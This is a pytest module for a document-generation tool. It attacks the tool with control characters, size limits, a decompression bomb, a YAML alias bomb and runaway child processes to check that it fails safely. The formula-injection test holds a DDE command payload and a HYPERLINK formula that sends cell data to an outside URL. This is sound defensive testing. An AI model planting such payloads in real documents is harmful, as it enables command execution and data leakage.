"""Attacks on the tool: control characters in every kind of input, every size limit, every child process.

The process tests run a stand-in for LibreOffice (a Python script) that hangs, starts children, writes a
broken or empty PDF, so that timeouts, process groups and fallbacks are tested on every machine.
"""

from __future__ import annotations

import io
import os
import signal
import subprocess
import sys
import textwrap
import time
import zipfile
from pathlib import Path

import pytest

from conceptgen.cli import INTERNAL_ERROR
from conceptgen.diagnostics import DiagnosticError
from conceptgen.pipeline import check_project, render_project
from tests.conftest import replace_in

pytestmark = pytest.mark.slow  # processes, timeouts, LibreOffice

# --- control characters, in every kind of input ----------------------------------------------------

CHARACTERS = ["\x00", "\x01", "\x08", "\x1b", "\x7f", "\x85", "\ufffe", "\uffff"]
INPUT_KINDS = ["yaml-escape", "markdown", "csv-text", "csv-number", "xlsx-text", "template-yaml"]


def _escape(char: str) -> str:
    return f"\\x{ord(char):02x}" if ord(char) < 0x100 else f"\\u{ord(char):04x}"


def _data_yaml(file: str) -> str:
    return (
        f"datasets:\n  - id: bev\n    file: {file}\n    columns:\n"
        "      - {name: area}\n      - {name: einwohner, type: integer}\n"
    )


def put_character(project: Path, kind: str, char: str) -> str:
    """Write ``char`` into one kind of input of ``project``; returns the file the error must name."""
    if kind == "yaml-escape":
        replace_in(project / "project.yaml", "title: Testkonzept", f'title: "Test{_escape(char)}konzept"')
        return "project.yaml"
    if kind == "markdown":
        (project / "text" / "rahmen.md").write_text(f"Rahmen mit {char} Zeichen.\n", encoding="utf-8")
        return "rahmen.md"
    if kind in ("csv-text", "csv-number"):
        (project / "data").mkdir()
        cell = f"st{char}adt;100" if kind == "csv-text" else f"stadt;1{char}00"
        (project / "data" / "bev.csv").write_text(f"area;einwohner\n{cell}\n", encoding="utf-8")
        (project / "data.yaml").write_text(_data_yaml("data/bev.csv"), encoding="utf-8")
        return "bev.csv"
    if kind == "xlsx-text":
        import openpyxl

        (project / "data").mkdir()
        book = openpyxl.Workbook()
        book.active.append(["area", "einwohner"])
        book.active.append(["stadt", 100])
        book.save(project / "data" / "bev.xlsx")
        # openpyxl refuses to write control characters; put one into the sheet's XML directly
        _patch_xlsx(project / "data" / "bev.xlsx", "stadt", f"st{char}adt")
        (project / "data.yaml").write_text(_data_yaml("data/bev.xlsx"), encoding="utf-8")
        return "bev.xlsx"
    folder = project / "templates" / "eigen"
    folder.mkdir(parents=True)
    konzept = Path(__file__).resolve().parent.parent / "templates" / "konzept" / "template.docx"
    (folder / "template.docx").write_bytes(konzept.read_bytes())
    (folder / "template.yaml").write_text(f'name: eigen\nfont: "Arial{_escape(char)}"\n', encoding="utf-8")
    replace_in(
        project / "project.yaml", "  - output: test.docx", "  - output: test.docx\n    template: eigen"
    )
    return "template.yaml"


def _patch_xlsx(path: Path, old: str, new: str) -> None:
    source = zipfile.ZipFile(io.BytesIO(path.read_bytes()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename.startswith("xl/"):
                data = data.replace(old.encode(), new.encode("utf-8", "surrogatepass"))
            target.writestr(info, data)
    path.write_bytes(out.getvalue())


@pytest.mark.parametrize("kind", INPUT_KINDS)
@pytest.mark.parametrize("char", CHARACTERS, ids=lambda c: f"U+{ord(c):04X}")
def test_control_characters_are_located_errors_in_check_and_render(minimal, tmp_path, cli, kind, char):
    file = put_character(minimal, kind, char)
    unreadable = kind == "xlsx-text" and char not in ("\x7f", "\x85")  # not well-formed XML: CG603
    outputs = []
    for command in (["check", minimal], ["render", minimal, "-o", tmp_path / "out", "--no-libreoffice"]):
        result = cli(*command)
        assert result.exit_code == 1, result.output
        assert "Traceback" not in result.output and INTERNAL_ERROR not in result.output
        assert char not in result.output  # shown escaped, never raw
        errors = [line for line in result.output.splitlines() if " Fehler: " in line]
        if unreadable:
            assert any(file in line and "CG603" in line for line in errors), result.output
        else:
            assert any(file in line and line.split(":")[1].isdigit() for line in errors), result.output
        outputs.append(sorted(line for line in errors))
    assert outputs[0] == outputs[1]  # check says what render says
    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").iterdir())


@pytest.mark.parametrize("char", ["\x0c", "\x0b"])
def test_form_feed_and_vertical_tab_become_spaces(minimal, tmp_path, char):
    (minimal / "text" / "rahmen.md").write_text(f"Seite 1{char}Seite 2\n", encoding="utf-8")
    replace_in(minimal / "project.yaml", "title: Testkonzept", f'title: "Test{_escape(char)}konzept"')
    result = render_project(minimal, tmp_path / "out", libreoffice=False)
    assert sorted(d.code for d in result.diagnostics if d.code.startswith("CG01")) == ["CG012", "CG012"]
    from docx import Document

    texts = [p.text for p in Document(str(result.outputs[0])).paragraphs]
    assert "Seite 1 Seite 2" in texts and "Test konzept" in texts


# --- size limits ------------------------------------------------------------------------------------


def _limit_case(project: Path, limit: str) -> None:
    (project / "data").mkdir()
    if limit in ("rows", "columns", "cell"):
        rows = {"rows": 30, "columns": 2, "cell": 2}[limit]
        headers = ["area", "einwohner"] + ([f"x{i}" for i in range(40)] if limit == "columns" else [])
        body = [
            ["stadt" if limit != "cell" else "s" * 200, "1"] + [""] * (len(headers) - 2) for _ in range(rows)
        ]
        body = [[f"{r[0]}{i}", *r[1:]] for i, r in enumerate(body)]
        text = "\n".join(";".join(r) for r in [headers, *body])
        (project / "data" / "bev.csv").write_text(text, encoding="utf-8")
        (project / "data.yaml").write_text(_data_yaml("data/bev.csv"), encoding="utf-8")
    elif limit == "unpacked":
        with zipfile.ZipFile(project / "data" / "bev.xlsx", "w", zipfile.ZIP_DEFLATED) as bomb:
            bomb.writestr("xl/worksheets/sheet1.xml", "0" * 5000)
        (project / "data.yaml").write_text(_data_yaml("data/bev.xlsx"), encoding="utf-8")
    elif limit == "file":
        (project / "data" / "bev.csv").write_text("area;einwohner\n" + "stadt;1\n" * 200, encoding="utf-8")
        (project / "data.yaml").write_text(_data_yaml("data/bev.csv"), encoding="utf-8")


@pytest.mark.parametrize(
    ("limit", "setting", "value"),
    [
        ("rows", "MAX_ROWS", 20),
        ("columns", "MAX_COLUMNS", 10),
        ("cell", "MAX_CELL_CHARS", 100),
        ("unpacked", "MAX_UNPACKED_BYTES", 1000),
        ("file", "MAX_FILE_BYTES", 500),
    ],
)
def test_every_data_limit_is_a_located_error(minimal, monkeypatch, limit, setting, value):
    from conceptgen.data import tabular

    monkeypatch.setattr(tabular, setting, value)
    _limit_case(minimal, limit)
    result = check_project(minimal)
    codes = [d.code for d in result.diagnostics if d.level.value == "error"]
    assert codes and set(codes) == {"CG608"}, [d.format() for d in result.diagnostics]
    assert "bev." in result.diagnostics[0].location.file


def test_real_decompression_bomb_is_refused_before_parsing(minimal):
    (minimal / "data").mkdir()
    with zipfile.ZipFile(minimal / "data" / "bev.xlsx", "w", zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("[Content_Types].xml", "<Types/>")
        bomb.writestr("xl/worksheets/sheet1.xml", b"<c>" + b"0" * 160_000_000 + b"</c>")
    assert (minimal / "data" / "bev.xlsx").stat().st_size < 1_000_000
    (minimal / "data.yaml").write_text(_data_yaml("data/bev.xlsx"), encoding="utf-8")
    [d] = [d for d in check_project(minimal).diagnostics if d.level.value == "error"]
    assert d.code == "CG608" and "entpackt sich zu" in d.message


def test_a_million_rows_are_refused(minimal):
    (minimal / "data").mkdir()
    lines = "".join(f"s{i};{i}\n" for i in range(200_005))
    (minimal / "data" / "bev.csv").write_text("area;einwohner\n" + lines, encoding="utf-8")
    (minimal / "data.yaml").write_text(_data_yaml("data/bev.csv"), encoding="utf-8")
    [d] = [d for d in check_project(minimal).diagnostics if d.level.value == "error"]
    assert d.code == "CG608" and "Zeilen" in d.message


def test_alias_expansion_is_bounded_by_text_size(minimal):
    big = "x" * 1_000_000
    entries = "\n".join("  - {abbreviation: *big, meaning: y}" for _ in range(40))
    (minimal / "abbreviations.yaml").write_text(
        f"anchor: &big {big}\nabbreviations:\n{entries}\n", encoding="utf-8"
    )
    codes = {d.code for d in check_project(minimal).diagnostics}
    assert "CG008" in codes


# --- formula injection ------------------------------------------------------------------------------


def test_chart_workbooks_hold_no_formulas(minimal, tmp_path):
    (minimal / "charts.yaml").write_text(
        textwrap.dedent(
            """\
            charts:
              - id: c
                type: column
                title: Titel
                alt: Ein Diagramm
                data:
                  categories: ["=1+1", '=HYPERLINK("http://example.org/"&A2,"Neuss")', "=cmd|' /C calc'!A0"]
                  series:
                    - {name: "=SUM(A1:A9)", values: [1, 2, 3]}
            """
        ),
        encoding="utf-8",
    )
    (minimal / "text" / "rahmen.md").write_text("Rahmen.\n\n[[chart:c]]\n", encoding="utf-8")
    [path] = render_project(minimal, tmp_path / "out", libreoffice=False).outputs
    with zipfile.ZipFile(path) as package:
        [workbook] = [n for n in package.namelist() if n.startswith("word/embeddings/")]
        inner = zipfile.ZipFile(io.BytesIO(package.read(workbook)))
        sheets = "".join(inner.read(n).decode() for n in inner.namelist() if n.startswith("xl/worksheets/"))
        strings = inner.read("xl/sharedStrings.xml").decode()
    assert "<f>" not in sheets and "<f " not in sheets
    assert "=HYPERLINK" in strings and "=SUM(A1:A9)" in strings


# --- child processes --------------------------------------------------------------------------------

STUB = """\
#!{python}
import os, subprocess, sys, time
mode = os.environ.get("STUB_MODE", "hang")
outdir = sys.argv[sys.argv.index("--outdir") + 1]
if mode == "hang":
    child = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"])
    open(os.environ["STUB_PIDS"], "a").write(f"{{os.getpid()}} {{child.pid}}\\n")
    time.sleep(600)
elif mode == "garbage":
    open(os.path.join(outdir, "document.pdf"), "wb").write(b"%PDF-1.4 this is not a pdf")
elif mode == "empty":
    from pypdf import PdfWriter
    with open(os.path.join(outdir, "document.pdf"), "wb") as f:
        PdfWriter().write(f)
"""


@pytest.fixture
def stub_soffice(tmp_path, monkeypatch):
    script = tmp_path / "soffice"
    script.write_text(STUB.format(python=sys.executable), encoding="utf-8")
    script.chmod(0o755)
    monkeypatch.setenv("CONCEPTGEN_SOFFICE", str(script))
    monkeypatch.setenv("STUB_PIDS", str(tmp_path / "pids"))
    monkeypatch.setenv("CONCEPTGEN_LIBREOFFICE_TIMEOUT", "3")
    monkeypatch.setenv("PYTHONPATH", os.pathsep.join(sys.path))
    return tmp_path / "pids"


def _alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    with open(f"/proc/{pid}/stat") as stat:  # a zombie is dead
        return stat.read().split()[2] != "Z"


posix_only = pytest.mark.skipif(sys.platform == "win32", reason="process checks use POSIX signals and /proc")


@posix_only
def test_libreoffice_timeout_kills_its_whole_process_group(minimal, tmp_path, stub_soffice, monkeypatch):
    monkeypatch.setenv("STUB_MODE", "hang")
    started = time.monotonic()
    result = render_project(minimal, tmp_path / "out")
    assert time.monotonic() - started < 30
    [warning] = [d for d in result.diagnostics if d.code == "CG407"]
    assert "nicht innerhalb von 3 s fertig" in warning.message
    pids = [int(p) for line in stub_soffice.read_text().split("\n") if line for p in line.split()]
    time.sleep(0.5)
    assert pids and not any(_alive(pid) for pid in pids)


@posix_only
@pytest.mark.parametrize("mode", ["garbage", "empty"])
def test_broken_pdf_falls_back_to_word_filling_the_index(minimal, tmp_path, stub_soffice, monkeypatch, mode):
    monkeypatch.setenv("STUB_MODE", mode)
    result = render_project(minimal, tmp_path / "out")
    [warning] = [d for d in result.diagnostics if d.code == "CG407"]
    assert "gescheitert" in warning.message
    with zipfile.ZipFile(result.outputs[0]) as package:
        assert b"updateFields" in package.read("word/settings.xml")


@posix_only
def test_pdf_failure_still_writes_the_docx_and_waits_only_once(minimal, tmp_path, stub_soffice, monkeypatch):
    monkeypatch.setenv("STUB_MODE", "hang")
    out = tmp_path / "out"
    started = time.monotonic()
    with pytest.raises(DiagnosticError) as exc:
        render_project(minimal, out, pdf=True)
    assert time.monotonic() - started < 12  # one timeout of 3 s, not one per conversion
    assert [d.code for d in exc.value.diagnostics if d.level.value == "error"] == ["CG408"]
    assert [p.name for p in exc.value.written] == ["test.docx"] and (out / "test.docx").is_file()
    assert not (out / "test.pdf").exists()


@posix_only
def test_stale_temporary_folders_of_killed_renders_are_removed(minimal, tmp_path, stub_soffice, monkeypatch):
    import tempfile

    stale = Path(tempfile.gettempdir()) / "conceptgen-lo-999999999-stale"
    stale.mkdir(exist_ok=True)
    (stale / "document.docx").write_bytes(b"old copy")
    monkeypatch.setenv("STUB_MODE", "garbage")
    render_project(minimal, tmp_path / "out")
    assert not stale.exists()
    assert not list(Path(tempfile.gettempdir()).glob(f"conceptgen-lo-{os.getpid()}-*"))


def _started(pids: Path) -> int:
    return len([line for line in pids.read_text().split("\n") if line]) if pids.exists() else 0


@posix_only
def test_workers_die_with_their_parent(neuss_copy, tmp_path, stub_soffice):
    env = {
        **os.environ,
        "STUB_MODE": "hang",
        "CONCEPTGEN_WORKERS": "2",
        "CONCEPTGEN_LIBREOFFICE_TIMEOUT": "120",
    }
    parent = subprocess.Popen(
        [sys.executable, "-m", "conceptgen", "render", str(neuss_copy), "-o", str(tmp_path / "out")],
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    instances = min(os.cpu_count() or 1, 2)  # LibreOffice runs: one per core, the three documents shared
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and _started(stub_soffice) < instances:
        time.sleep(0.2)  # the batch's LibreOffice runs have started, each in its worker
    time.sleep(0.5)
    workers = [int(p) for p in Path(f"/proc/{parent.pid}/task/{parent.pid}/children").read_text().split()]
    stubs = [int(p) for line in stub_soffice.read_text().split("\n") if line for p in line.split()]
    assert len(workers) == instances and len(stubs) == 2 * instances  # each stub and its child
    parent.send_signal(signal.SIGKILL)
    parent.wait()
    deadline = time.monotonic() + 15
    while time.monotonic() < deadline and any(_alive(p) for p in workers + stubs):
        time.sleep(0.2)
    assert not [p for p in workers + stubs if _alive(p)]


def test_output_folder_that_cannot_be_written_is_reported_at_once(minimal, tmp_path, cli):
    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder")
    for target in (blocker / "out", Path("/proc") if sys.platform.startswith("linux") else blocker / "x"):
        started = time.monotonic()
        result = cli("render", minimal, "-o", target, "--no-libreoffice")
        assert time.monotonic() - started < 10
        assert result.exit_code == 1 and "CG501" in result.output, result.output
        assert INTERNAL_ERROR not in result.output


def test_a_failed_replacement_puts_every_file_back(minimal, tmp_path, monkeypatch):
    replace_in(
        minimal / "project.yaml", "  - output: test.docx", "  - output: test.docx\n  - output: zweites.docx"
    )
    out = tmp_path / "out"
    render_project(minimal, out, libreoffice=False)
    before = {p.name: p.read_bytes() for p in out.iterdir() if not p.name.endswith(".lock")}
    replace_in(minimal / "project.yaml", "title: Testkonzept", "title: Anders")
    real = os.replace

    def failing(src, dst):
        if Path(dst).name == "zweites.docx" and str(src).endswith(".tmp"):  # the new file cannot go in
            raise OSError(30, "Read-only file system")
        return real(src, dst)

    monkeypatch.setattr(os, "replace", failing)
    with pytest.raises(DiagnosticError) as exc:
        render_project(minimal, out, libreoffice=False, force=True)
    assert [d.code for d in exc.value.diagnostics] == ["CG501"]
    monkeypatch.setattr(os, "replace", real)
    after = {p.name: p.read_bytes() for p in out.iterdir() if not p.name.endswith(".lock")}
    assert after == before  # the first document and the manifest are the old ones, nothing left over


def test_bug_in_a_worker_is_reported_like_in_one_process(neuss_copy, tmp_path, monkeypatch):
    from conceptgen.render import parallel

    def boom(*_args, **_kwargs):
        from lxml import etree

        etree.fromstring(b"<a>")  # an exception carrying an unpicklable error log

    results = {}
    for workers in ("1", "2"):
        monkeypatch.setenv("CONCEPTGEN_WORKERS", workers)
        monkeypatch.setattr("conceptgen.render.docx.render_docx", boom)
        with pytest.raises(Exception) as exc:
            render_project(neuss_copy, tmp_path / workers, libreoffice=False)
        results[workers] = (getattr(exc.value, "kind", type(exc.value).__name__), str(exc.value))
    assert results["1"] == results["2"] and results["1"][0] == "XMLSyntaxError"
    assert parallel.RenderBug  # the type a worker's bug arrives as


@pytest.mark.parametrize(
    ("project_yaml", "expected"),
    [
        ("keep", True),  # neuss: three documents
        ("one", False),  # a single document renders in this process
        ("broken", False),  # a project.yaml check_project reports: no workers for it
    ],
)
def test_workers_start_before_the_check_only_for_several_documents(
    neuss_copy, tmp_path, monkeypatch, project_yaml, expected
):
    """The glance at project.yaml that plans the workers never decides what is rendered, and a file it
    cannot read is check_project's to report (located, exit 1), not a crash."""
    from conceptgen.diagnostics import DiagnosticError
    from conceptgen.render import parallel

    path = neuss_copy / "project.yaml"
    text = path.read_text(encoding="utf-8")
    if project_yaml == "one":
        import yaml

        data = yaml.safe_load(text)
        data["documents"] = data["documents"][:1]
        path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    elif project_yaml == "broken":
        path.write_text(text + "\n  : : [\n", encoding="utf-8")
    monkeypatch.setenv("CONCEPTGEN_WORKERS", "2")
    started = []
    original = parallel.start_workers
    monkeypatch.setattr(parallel, "start_workers", lambda: started.append(1) or original())
    if project_yaml == "broken":
        with pytest.raises(DiagnosticError) as exc:
            render_project(neuss_copy, tmp_path / "out", libreoffice=False)
        assert any(d.code == "CG003" for d in exc.value.diagnostics)
    else:
        result = render_project(neuss_copy, tmp_path / "out", libreoffice=False)
        assert len(result.outputs) == (3 if expected else 1)
    assert bool(started) == expected
